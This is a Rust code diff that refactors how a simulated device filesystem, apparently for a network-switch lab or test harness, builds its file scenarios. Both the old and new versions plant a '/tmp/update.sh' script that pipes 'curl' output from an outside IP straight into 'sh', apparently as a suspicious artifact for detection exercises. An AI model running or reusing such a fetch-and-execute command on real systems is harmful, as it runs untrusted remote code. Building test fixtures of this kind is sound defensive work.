@@ -127,20 +127,22 @@ const DISK: Disk = Disk {
         Node::text("/proc/cmdline", CMDLINE, MTIME_ETC),
     ],
     config: None,
-    scenarios: Some(FileScenarios {
-        at: MTIME_ETC + 9000,
-        tool: (
-            "/tmp/update.sh",
-            What::Exec("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"),
-        ),
-        dd_image: Some("/backup/system_image.img"),
-        alt_image: Some("/host/image-202305.1/fs.squashfs"),
-        new_log: (
-            "/var/log/syslog.1",
-            "Nov 15 00:00:01 lab rsyslogd: rotated\n",
-        ),
-        maintenance: ("/etc/sonic/acl-CHG1234.json", "{\"ACL_TABLE\": {}}\n"),
-    }),
+    scenarios: Some(
+        FileScenarios::at(
+            MTIME_ETC + 9000,
+            (
+                "/tmp/update.sh",
+                What::Exec("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"),
+            ),
+            (
+                "/var/log/syslog.1",
+                "Nov 15 00:00:01 lab rsyslogd: rotated\n",
+            ),
+            ("/etc/sonic/acl-CHG1234.json", "{\"ACL_TABLE\": {}}\n"),
+        )
+        .with_alt_image("/host/image-202305.1/fs.squashfs")
+        .with_dd_image("/backup/system_image.img"),
+    ),
 };
 
 pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
